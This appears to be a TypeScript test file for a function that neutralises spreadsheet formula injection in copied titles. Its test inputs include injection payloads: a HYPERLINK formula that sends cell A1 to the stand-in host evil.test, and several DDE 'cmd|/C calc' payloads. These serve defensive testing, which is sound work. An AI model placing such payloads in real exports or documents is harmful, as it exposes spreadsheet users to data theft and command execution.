import assert from 'node:assert/strict';
import { test } from 'node:test';
import { copiedTitle } from '../../../src/core/copiedTitle.ts';

/** What a spreadsheet takes for a formula when it is pasted. */
const isFormula = (text: string): boolean => /^\s*[=+@-]/.test(text);

for (const title of [
	'=HYPERLINK("https://evil.test/?"&A1,"Open")',
	"=cmd|'/C calc'!A0",
	'\t=1+1',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'@SUM(1+1)*cmd',
	'first\n=1+1',
]) {
	test(`${JSON.stringify(title)} is copied as text: as it is, it would be a formula`, () => {
		assert.ok(title.split('\n').some(isFormula));
		const copied = copiedTitle(title);
		assert.ok(!copied.split(/[\r\n\t]/).some(isFormula), copied);
		assert.ok(copied.endsWith(title.replace(/\s+/g, ' ').trim()));
	});
}

test('other titles are copied as they are, in one line', () => {
	for (const title of [
		"KeyError: 'inlet'",
		'-[NSArray objectAtIndex:]: out of bounds',
		'@scope/name: no',
		'',
	]) {
		assert.equal(copiedTitle(title), title);
	}
	assert.equal(copiedTitle('two\r\nlines\0'), 'two lines');
});
